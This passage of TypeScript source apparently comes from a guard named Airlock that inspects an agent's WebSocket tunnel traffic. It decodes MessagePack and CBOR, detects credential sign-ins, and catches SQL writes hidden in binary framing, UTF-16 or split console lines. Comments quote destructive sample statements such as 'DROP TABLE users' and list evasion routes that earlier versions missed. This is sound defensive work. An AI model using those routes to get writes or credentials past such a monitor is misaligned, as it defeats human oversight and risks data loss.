  else if (c === 0xdc || c === 0xdd) [count, at, map] = [u(i + 1, c === 0xdc ? 2 : 4), i + (c === 0xdc ? 3 : 5), false];
  else return undefined;
  return packedItems(w, at, count, map, depth, msgpackValue);
}

/** Reads one CBOR value at `i` (definite lengths); returns where it ends (undefined: not CBOR). */
function cborValue(w: PackedWalk, i: number, depth: number, text?: (t: PackedText) => void): number | undefined {
  const { b } = w;
  if (--w.budget < 0 || depth > 32 || i >= b.length) return undefined;
  const major = b[i]! >> 5;
  const ai = b[i]! & 0x1f;
  // Indefinite lengths (RFC 8949 3.2.2; twenty-ninth pass, left open by the twenty-eighth: Jackson's
  // CBOR generator writes every object as `0xbf … 0xff`, streaming encoders write strings in chunks).
  if (ai === 31) return cborIndefinite(w, i, major, depth, text);
  if (ai > 27) return undefined;
  const extra = ai < 24 ? 0 : [1, 2, 4, 8][ai - 24]!;
  if (i + 1 + extra > b.length) return undefined;
  const arg = ai < 24 ? ai : extra === 1 ? b[i + 1]! : extra === 2 ? b.readUInt16BE(i + 1) : extra === 4 ? b.readUInt32BE(i + 1) : Number(b.readBigUInt64BE(i + 1));
  const at = i + 1 + extra;
  if (major === 0 || major === 1 || major === 7) return at;
  if (major === 2 || major === 3) {
    if (at + arg > b.length) return undefined;
    if (w.strings && arg && w.strings.length < MAX_PACKED_STRINGS) w.strings.push([b.subarray(at, at + arg), major === 2]);
    text?.({ ...(major === 3 ? { text: b.toString('latin1', at, at + arg) } : {}), bytes: arg, end: at + arg });
    return at + arg;
  }
  if (major === 6) return cborValue(w, at, depth + 1);
  return packedItems(w, at, arg, major === 5, depth, cborValue);
}

/**
 * A CBOR item of indefinite length: a text or byte string as definite chunks of its own major type
 * up to a break (`0xff`), read as the chunks joined; an array or map as items up to a break.
 */
function cborIndefinite(w: PackedWalk, i: number, major: number, depth: number, text?: (t: PackedText) => void): number | undefined {
  const { b } = w;
  if (major === 4 || major === 5) return packedItems(w, i + 1, -1, major === 5, depth, cborValue);
  if (major !== 2 && major !== 3) return undefined; // not well-formed (a lone break, an integer or tag)
  let at = i + 1;
  let joined = '';
  let bytes = 0;
  for (;;) {
    if (--w.budget < 0 || at >= b.length) return undefined;
    if (b[at] === 0xff) break;
    const ai = b[at]! & 0x1f;
    if (b[at]! >> 5 !== major || ai > 27) return undefined; // a chunk is a definite string of the same type
    const extra = ai < 24 ? 0 : [1, 2, 4, 8][ai - 24]!;
    if (at + 1 + extra > b.length) return undefined;
    const n = ai < 24 ? ai : extra === 1 ? b[at + 1]! : extra === 2 ? b.readUInt16BE(at + 1) : extra === 4 ? b.readUInt32BE(at + 1) : Number(b.readBigUInt64BE(at + 1));
    const from = at + 1 + extra;
    if (from + n > b.length) return undefined;
    if (major === 3 && joined.length <= 64) joined += b.toString('latin1', from, from + n);
    bytes += n;
    at = from + n;
  }
  text?.({ ...(major === 3 ? { text: joined } : {}), bytes, end: at + 1 });
  return at + 1;
}

/**
 * A map's or array's items (`count` -1: CBOR's indefinite length, items up to a break); a map member
 * named as a credential whose value is text or bytes of 8 or more sets `found`.
 */
function packedItems(w: PackedWalk, at: number, count: number | undefined, map: boolean, depth: number, value: typeof msgpackValue): number | undefined {
  if (count === undefined || count > w.b.length) return undefined;
  for (let k = 0; count < 0 || k < count; k++) {
    if (count < 0) {
      if (at >= w.b.length || --w.budget < 0) return undefined;
      if (w.b[at] === 0xff) return at + 1;
    }
    if (!map) {
      const next = value(w, at, depth + 1);
      if (next === undefined) return undefined;
      at = next;
      continue;
    }
    let name: string | undefined;
    const afterKey = value(w, at, depth + 1, (t) => (name = t.text));
    if (afterKey === undefined) return undefined;
    let long = false;
    const afterValue = value(w, afterKey, depth + 1, (t) => (long = t.end > afterKey && t.bytes >= 8));
    if (afterValue === undefined) return undefined;
    if (long && name !== undefined && name.length <= 40 && signInName(name)) w.found = true;
    at = afterValue;
  }
  return at;
}

/**
 * A sign-in in a binary serialization of JSON's shape (twenty-eighth pass, left open by the
 * twenty-seventh): MessagePack (Socket.IO's msgpack parser, SignalR's MessagePack protocol after its
 * length prefix, Centrifugo's) or CBOR, decoded as such (a value whole from the message's start or
 * just after a length prefix of up to 5 bytes), holding a map member whose key is named as a
 * credential (`token`, `access_token`, `password`, `jwt`, `cred` …) and whose value is a string or
 * bytes of 8 or more. Read in messages that are not UTF-8 text, up to MAX_CREDENTIAL_MESSAGE bytes.
 */
export function packedSignsIn(data: Buffer): boolean {
  const b = data.length > MAX_CREDENTIAL_MESSAGE ? data.subarray(0, MAX_CREDENTIAL_MESSAGE) : data;
  for (const value of [msgpackValue, cborValue]) {
    for (let from = 0; from <= 5 && from < b.length; from++) {
      const w: PackedWalk = { b, budget: 10_000, found: false };
      if (value(w, from, 0) !== undefined && w.found) return true;
    }
  }
  return false;
}

/** At most this many strings of one packed value are collected (packedPayloads). */
const MAX_PACKED_STRINGS = 4096;

/**
 * The byte strings a MessagePack or CBOR value carries (twenty-ninth pass: a relay whose envelope
 * is packed — Socket.IO's msgpack parser, SignalR's MessagePack protocol, a bridge's
 * `{type: "data", data: <bin>}` — writes the bin's bytes to its service, and a stream's opening
 * inside it stood past the message's start, where no reading of a stream's start looked): a value
 * that is the whole message (from its start or after a length prefix of up to 5 bytes), its last
 * byte string (MessagePack's bin, CBOR's major type 2) and its longest string of either kind.
 */
export function packedPayloads(data: Buffer): { last?: Buffer; longest?: Buffer } | undefined {
  const b = data.length > MAX_CREDENTIAL_MESSAGE ? data.subarray(0, MAX_CREDENTIAL_MESSAGE) : data;
  for (const value of [msgpackValue, cborValue]) {
    for (let from = 0; from <= 5 && from < b.length; from++) {
      const w: PackedWalk = { b, budget: 10_000, found: false, strings: [] };
      if (value(w, from, 0) !== b.length || !w.strings!.some(([, bytes]) => bytes)) continue;
      const bins = w.strings!.filter(([, bytes]) => bytes);
      let longest = bins[0]![0];
      for (const [str] of w.strings!) if (str.length > longest.length) longest = str;
      return { last: bins[bins.length - 1]![0], longest };
    }
  }
  return undefined;
}

/** SASL mechanisms whose exchange carries a credential (a password, a token, a proof of one). */
const SASL_MECHANISMS = ['PLAIN', 'LOGIN', 'XOAUTH2', 'OAUTHBEARER', 'CRAM-MD5', 'DIGEST-MD5', 'SCRAM-SHA-1', 'SCRAM-SHA-1-PLUS', 'SCRAM-SHA-256', 'SCRAM-SHA-256-PLUS', 'SCRAM-SHA-512', 'SCRAM-SHA-512-PLUS', 'NTLM', 'GSSAPI'];
/**
 * A text protocol's sign-in line or element: XMPP's `<auth … mechanism='PLAIN'>` (RFC 7395 over
 * WebSocket), IRC's `AUTHENTICATE PLAIN` and `PASS`, IMAP's `a1 LOGIN user pass` and `AUTHENTICATE`,
 * SMTP's and POP3's `AUTH PLAIN …`, POP3's and FTP's `PASS`.
 */
const textSignIn = /mechanism\s{0,4}=\s{0,4}["']([A-Z0-9-]{2,20})["']|^(?:[A-Za-z0-9.]{1,20} )?(?:AUTHENTICATE|AUTH) ([A-Z0-9-]{2,20})\b|^(?:[A-Za-z0-9.]{1,20} )?LOGIN \S{1,200} \S{4}|^PASS :?\S{4}/gm;

/**
 * A message naming a SASL mechanism that carries a credential, in a protocol's own words
 * (twenty-eighth pass: a binary sign-in was left open by the twenty-seventh). Text: see textSignIn.
 * Binary: the mechanism's name as a protocol writes a string, its length before it — AMQP 1.0's
 * `sasl-init` (a symbol: `0xa3`, a length byte), AMQP 0-9-1's `Connection.StartOk` (a short string:
 * a length byte), Kafka's `SaslHandshake` (a 16-bit length), BSON's (a 32-bit length counting its
 * NUL). The server then answers as that account.
 */
export function saslSignsIn(data: Buffer): boolean {
  const bytes = data.length > MAX_CREDENTIAL_MESSAGE ? data.subarray(0, MAX_CREDENTIAL_MESSAGE) : data;
  const text = bytes.toString('latin1');
  textSignIn.lastIndex = 0;
  for (let m = textSignIn.exec(text); m; m = textSignIn.exec(text)) {
    const mech = m[1] ?? m[2];
    if (mech === undefined || SASL_MECHANISMS.includes(mech)) return true;
  }
  for (const mech of SASL_MECHANISMS) {
    if (mech === 'LOGIN') continue; // a word a binary message may well hold as a string (an event's type): text only
    for (let at = text.indexOf(mech); at >= 0; at = text.indexOf(mech, at + 1)) {
      const after = bytes[at + mech.length];
      if (after !== undefined && ((after >= 0x41 && after <= 0x5a) || (after >= 0x30 && after <= 0x39) || after === 0x2d)) continue; // part of a longer name
      const n = mech.length;
      if (at >= 1 && bytes[at - 1] === n && (at < 2 || bytes[at - 2] === 0xa3 || after === undefined || after < 0x20 || after >= 0x80)) return true; // sym8 or shortstr
      if (at >= 2 && bytes[at - 2] === 0 && bytes[at - 1] === n) return true; // 16-bit length
      if (at >= 4 && bytes.readInt32LE(at - 4) === n + 1 && after === 0) return true; // BSON string
    }
  }
  return false;
}

/** A JSON text as a server reads it (last key wins), and as one reading the first key of a pair. */
function readings(text: string): unknown[] {
  let msg: unknown;
  try {
    msg = JSON.parse(text);
  } catch {
    return [];
  }
  const scan = scanJson(text, true);
  return scan.duplicateCount > 0 ? [msg, scan.firstWins] : [msg];
}

/** Whether a first text message is JSON (an object or a list): a protocol of JSON messages. */
export function startsJson(text: string): boolean {
  return /^\s*[{[]/.test(text);
}

/** A word that starts an SQL statement or names a clause that writes, anywhere in a string value. */
const sqlWord = /\b(select|insert|update|delete|drop|alter|create|truncate|grant|revoke|merge|replace|upsert|copy|call|exec|execute|do|with|pragma|attach|set|load|lock|vacuum|reindex|comment|prepare|deallocate|values|table|kill)\b/i;
/** Longest message of another protocol read for SQL (an HTTP body's capture is as long). */
const MAX_JSON_MESSAGE = 1024 * 1024;
/** String values looked at in one message, at most (past it the message is judged). */
const MAX_JSON_VALUES = 10_000;

/** Whether a JSON value holds a string in which a word of SQL stands (bounded: past it, assumed so). */
function mentionsSql(v: unknown): boolean {
  const stack: Array<{ v: unknown; depth: number }> = [{ v, depth: 0 }];
  let seen = 0;
  while (stack.length) {
    const { v: x, depth } = stack.pop()!;
    if (++seen > MAX_JSON_VALUES || depth > 32) return true;
    if (typeof x === 'string') {
      if (sqlWord.test(x)) return true;
    } else if (x && typeof x === 'object') {
      for (const c of Object.values(x as Record<string, unknown>)) stack.push({ v: c, depth: depth + 1 });
    }
  }
  return false;
}

/**
 * A WebSocket of a protocol Airlock has no reader for, whose text messages may carry SQL: JSON (a
 * database's own JSON API: `{"sql": …}`, `{"query": …}`, JSON-RPC) or SQL itself (a console, a
 * line bridge). Each text message whose strings hold a word of SQL is judged as the same body
 * POSTed to the tunnel's URL (plain text as `{query: text}`), by the rules that find SQL in an HTTP
 * body (`{query}`, `{sql}`, `{statement}` to any path, SQL-carrying fields and envelopes). A
 * message in which those rules find no SQL goes on undecided, as its tunnel's other traffic.
 */
/** Statements of one console text looked at one by one; a text of more is held unread. */
const MAX_CONSOLE_STATEMENTS = 64;

/** The statements of a console's text, cut where it sends them (consoleRead's ends), the tail last. */
function consoleStatements(text: string, ends: number[]): string[] {
  const out: string[] = [];
  let from = 0;
  for (const end of ends) {
    out.push(text.slice(from, end - 1));
    from = end;
  }
  out.push(text.slice(from));
  return out;
}

/** Control characters no JSON text, console line or SQL statement holds: a binary protocol's framing. */
const framing = /[\u0000-\u0008\u000b\u000c\u000e-\u001f]/;
/**
 * Where a statement may start inside a run of text, whatever comes right before it (a length byte
 * that is a letter glues onto it: `\u0000\u0000\u0000DDROP TABLE …`): a word that begins one, a blank and
 * what a statement's next word starts with.
 */
const statementStart = /(select|insert|update|delete|drop|alter|create|truncate|grant|revoke|merge|replace|upsert|copy|call|exec|execute|with|pragma|attach|set|load|vacuum|prepare|kill|batch|begin)[ \t\r\n]/gi;
/** Whether a statement's next word may start at `i` of `run` (after the blanks there). */
function nextWordAt(run: string, i: number): boolean {
  while (i < run.length && (run[i] === ' ' || run[i] === '\t' || run[i] === '\r' || run[i] === '\n')) i++;
  return i < run.length && /[\p{L}_("`'*@$[]/u.test(run[i]!);
}
/** Candidate statements read from one framed message, at most (past it the message is refused). */
const MAX_FRAMED_CANDIDATES = 16;
/** Shortest candidate read (a statement's word, a blank and a few characters). */
const MIN_FRAMED_CANDIDATE = 10;

/**
 * SQL inside a binary protocol Airlock has no reader for (eighteenth pass): Cassandra's native
 * protocol carries CQL as a length-prefixed string in a binary frame (`QUERY 'DROP TABLE users'`),
 * ClickHouse's native protocol, a database's own framing behind websockify (in UTF-8 or UTF-16) — the control bytes
 * around the text made it no SQL to the text reading, so it went on undecided. The message's runs
 * of text (split at control characters and bytes that are not UTF-8) are read from each place a
 * statement may start to the run's end, each as `{query}` (SQL when a grammar reads statements in
 * it) or, when it reads as a write or an outside call no grammar reads, as `{sql}`. More than
 * MAX_FRAMED_CANDIDATES places in one message: refused.
 */
function framedRead(data: Buffer): TunnelRead {
  // UTF-16 text too (SQL Server's and .NET's protocols carry it so): NUL bytes between ASCII letters.
  const texts = [data.toString('utf8')];
  if (data.includes(0)) {
    texts.push(data.toString('utf16le'));
    if (data.length > 1) texts.push(Buffer.from(data.subarray(1)).toString('utf16le'));
  }
  const statements: CarriedStatement[] = [];
  for (const run of texts.flatMap((text) => text.split(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffd]+/))) {
    if (run.length < MIN_FRAMED_CANDIDATE) continue;
    statementStart.lastIndex = 0;
    for (let m = statementStart.exec(run); m; m = statementStart.exec(run)) {
      const candidate = run.slice(m.index);
      if (candidate.length >= MIN_FRAMED_CANDIDATE && nextWordAt(run, m.index + m[0].length)) {
        if (statements.length >= MAX_FRAMED_CANDIDATES) return { statements: [], refused: `a binary message with more than ${MAX_FRAMED_CANDIDATES} places where SQL may start: not read` };
        if (candidate.length > MAX_JSON_MESSAGE) return { statements: [], refused: `text of ${candidate.length} bytes in a binary message that may carry SQL: longer than Airlock reads (${MAX_JSON_MESSAGE})` };
        statements.push({ protocol: 'json', message: 'framed', body: unreadSqlEffect(candidate, reachesOutside) !== undefined ? { sql: candidate } : { query: candidate } });
      }
      // Overlapping starts (`DDROP`): from the next character on.
      statementStart.lastIndex = m.index + 1;
    }
  }
  return { statements };
}

/** Gremlin's steps that write, as GraphBinary carries their names (length-prefixed strings). */
const gremlinWriteSteps = /drop|property|addV|addE|mergeV|mergeE|sideEffect|call|io|inject|Lambda/;

/**
 * Gremlin Server's WebSocket request (twenty-seventh pass, left open by the twenty-sixth: over
 * WebSocket `g.V().drop()` went on undecided, and `g.V().property('role', 'admin')` named no SQL
 * word at all): a text message, or a binary one led by its MIME type's length and name
 * (`\x21application/vnd.gremlin-v3.0+json{…}`), holding `{op, args: {gremlin}}` is judged whole
 * as its POST to the tunnel's URL, read there as Gremlin (a script, or bytecode written as one).
 * GraphBinary (`application/vnd.graphbinary-v1.0`) is not read: a message in it naming a step
 * that writes is refused, others go on. Undefined when the message is no Gremlin request.
 */
function gremlinRead(data: Buffer): TunnelRead | undefined {
  let payload = data;
  const n = data[0] ?? 0;
  if (n > 0 && n < 0x40 && data.length > n) {
    const mime = data.subarray(1, 1 + n).toString('latin1').toLowerCase();
    if (/^application\/vnd\.graphbinary/.test(mime)) {
      return gremlinWriteSteps.test(data.subarray(1 + n, 1 + n + MAX_JSON_MESSAGE).toString('latin1'))
        ? { statements: [], refused: 'a Gremlin request in GraphBinary naming a step that writes: Airlock reads Gremlin as a script or GraphSON' }
        : { statements: [] };
    }
    if (/^application\/(vnd\.gremlin-v\d\.\d(\+json)?|json)(;|$)/.test(mime)) payload = data.subarray(1 + n);
  }
  if (payload.length > MAX_JSON_MESSAGE || !/^\s*\{/.test(payload.subarray(0, 64).toString('latin1')) || !payload.includes('"op"') || !payload.includes('"args"')) {
    return payload === data ? undefined : { statements: [], refused: 'a Gremlin request Airlock could not read' };
  }
  let msg: unknown;
  try {
    msg = JSON.parse(payload.toString('utf8'));
  } catch {
    return payload === data ? undefined : { statements: [], refused: 'a Gremlin request that is no JSON' };
  }
  const m = msg as { op?: unknown; args?: unknown };
  if (!msg || typeof msg !== 'object' || typeof m.op !== 'string' || !m.args || typeof m.args !== 'object') return payload === data ? undefined : { statements: [] };
  if (!('gremlin' in (m.args as object))) return payload === data ? undefined : { statements: [] };
  return { statements: [{ protocol: 'json', message: 'gremlin', body: {}, raw: Buffer.from(payload) }] };
}

export class JsonMessagesReader implements TunnelSqlReader {
  readonly protocol = 'json';
  /**
   * Text a console would still hold (no `;` has ended it yet) that is SQL or may become SQL: the
   * next text message is judged joined to it, as psql joins lines (thirteenth pass: `DROP TABLE`
   * then `users;` were two pieces that are no SQL).
   */
  private pending = '';

  get holding(): number {
    return this.pending.length;
  }

  /** Requests the remote browser paused (its events), by id: whether each writes (see continuesWrite). At most 4,096, oldest dropped. */
  private readonly paused = new Map<string, boolean>();
  private readonly pausedWrites: PausedWrites = (id) => this.paused.get(id) ?? true;

  /**
   * A message from the upstream: a browser's event saying it paused a request (CDP's
   * `Fetch.requestPaused` or `Network.requestIntercepted`, flat or inside
   * `Target.receivedMessageFromTarget`; BiDi's blocked `network.beforeRequestSent`), kept with
   * whether that request writes, for the agent's command that continues it.
   */
  observe(data: Buffer): void {
    if (data.length > MAX_JSON_MESSAGE) return;
    const text = data.toString('utf8');
    if (!/requestPaused|requestIntercepted|beforeRequestSent|receivedMessageFromTarget|\\u/.test(text)) return;
    const seen = (m: unknown, depth: number): void => {
      if (!m || typeof m !== 'object' || depth > 3) return;
      const { method, params } = m as { method?: unknown; params?: Record<string, unknown> };
      if (!params || typeof params !== 'object') return;
      if (method === 'Target.receivedMessageFromTarget' && typeof params.message === 'string') return void readings(params.message).forEach((r) => seen(r, depth + 1));
      const request = (params.request && typeof params.request === 'object' ? params.request : {}) as Record<string, unknown>;
      const writes = (verb: unknown, body: boolean): boolean => !(typeof verb === 'string' && ['GET', 'HEAD', 'OPTIONS'].includes(verb.toUpperCase())) || body;
      let id: unknown;
      let write = true;
      if (method === 'Fetch.requestPaused' && params.responseStatusCode === undefined && params.responseErrorReason === undefined) {
        id = params.requestId;
        write = writes(request.method, request.hasPostData === true || nonEmpty(request.postData) || nonEmpty(request.postDataEntries));
      } else if (method === 'Network.requestIntercepted') {
        id = params.interceptionId;
        write = writes(request.method, request.hasPostData === true || nonEmpty(request.postData));
      } else if (method === 'network.beforeRequestSent' && params.isBlocked === true) {
        id = request.request;
        write = writes(request.method, typeof request.bodySize === 'number' ? request.bodySize > 0 : request.bodySize !== 0);
      }
      if (typeof id !== 'string') return;
      this.paused.delete(id);
      this.paused.set(id, write);
      if (this.paused.size > 4096) this.paused.delete(this.paused.keys().next().value!);
    };
    readings(text).forEach((r) => seen(r, 0));
  }

  read(data: Buffer, binary: boolean): TunnelRead {
    const gremlin = gremlinRead(data);
    if (gremlin) return gremlin;
    // A message with binary framing (control bytes, or not UTF-8: a protocol's header before and
    // after the text it carries) is read for statements in its runs of text (eighteenth pass).
    if (binary && !isUtf8(data)) return framedRead(data);
    const text = data.toString('utf8');
    if (framing.test(text)) return framedRead(data);
    const joining = this.pending !== '' && !startsJson(text);
    // An MCP message is judged whole as its POST twin (which reads SQL in its arguments too).
    if (!joining && startsJson(text) && (text.includes('method') || text.includes('\\u'))) {
      if (data.length > MAX_JSON_MESSAGE) return { statements: [], refused: `a message of ${data.length} bytes that may be an MCP call: longer than Airlock reads (${MAX_JSON_MESSAGE})` };
      if (namesMcpMethod(text)) return { statements: [{ protocol: 'mcp', message: 'jsonrpc', body: {}, raw: data }] };
      // CDP's methods are `Domain.command`, BiDi's `module.command` (of the modules read: `input`
      // since the twenty-fourth pass, its `setFiles`), Playwright's messages carry a `guid`: only a
      // message naming one (or escaping) is parsed again.
      const loads = /"method"\s*:\s*"(?:[A-Z]|(?:browsingContext|script|network|storage|browser|session|emulation|input|webExtension|goog:cdp)\.)|"guid"\s*:/.test(text) || text.includes('\\u') ? cdpLoadsOf(text, this.pausedWrites) : { urls: [] };
      if (loads.refused) return { statements: [], refused: loads.refused };
      if (loads.urls.length || loads.writes?.length) {
        return { statements: [...loads.urls.map((target): CarriedStatement => ({ protocol: 'cdp', message: 'navigation', body: {}, target })), ...(loads.writes ?? []).map((target): CarriedStatement => ({ protocol: 'cdp', message: 'write', body: {}, target, writes: true }))] };
      }
    }
    // Most messages name no SQL word at all: nothing more to read (a JSON escape may spell one),
    // unless they go on a statement a console holds or start with one of its commands (`\! …`).
    if (!joining && !sqlWord.test(text) && !text.includes('\\u') && !/^\s*[\\.]/.test(text) && !mysqlCommandLine.test(text) && !otherConsoleLine(text)) return { statements: [] };
    if (data.length + this.pending.length > MAX_JSON_MESSAGE) return { statements: [], refused: `a message of ${data.length} bytes that may carry SQL: longer than Airlock reads (${MAX_JSON_MESSAGE})` };
    let msg: unknown;
    try {
      if (joining) throw new Error('joined to a console statement');
      msg = JSON.parse(text);
    } catch {
      // JSON a lenient server may read: the HTTP rules read it as they read such a body.
      if (startsJson(text)) return sqlWord.test(text) ? { statements: [{ protocol: 'json', message: 'text', body: {}, raw: data }] } : { statements: [] };
      // Other text may be SQL itself (a console over WebSocket, `websocketd psql`): judged as
      // `{query}`, joined to what the console still holds, its own commands refused.
      const joined = joining ? `${this.pending}\n${text}` : text;
      const { tail, command, ends } = consoleRead(joined);
      if (command !== undefined) return { statements: [], refused: `a console command (${command.slice(0, 20)}) in a text message: the console runs what it names (a shell, a file, a query's result as SQL, another server, another encoding or delimiter), which Airlock does not read` };
      // What the console keeps matters while it is SQL or the start of some; text that is no SQL
      // before its end can never run (the server parses a statement whole before running it).
      this.pending = tail.trim() !== '' && sqlPrefixState(tail) !== 'invalid' ? tail : '';
      if (!joining && !sqlWord.test(text)) return { statements: [] };
      // A statement no grammar Airlock has reads is no SQL to the HTTP rules of a POST (a search
      // phrase in `{query}`); one the console sends that reads as a write or calls outside
      // (`DELETE LOW_PRIORITY FROM users;` to `websocketd mysql`, sixteenth pass) is SQL, as `{sql}`:
      // unread, held. A console sends what it holds at its end too, so the tail counts.
      const unread = ends.length > MAX_CONSOLE_STATEMENTS || consoleStatements(joined, ends).some((st) => unreadSqlEffect(st, reachesOutside) !== undefined);
      return { statements: [{ protocol: 'json', message: 'text', body: unread ? { sql: joined } : { query: joined } }] };
    }
    if (!mentionsSql(msg)) return { statements: [] };
    return { statements: [{ protocol: 'json', message: Array.isArray(msg) ? 'list' : 'object', body: {}, raw: data }] };
  }
}
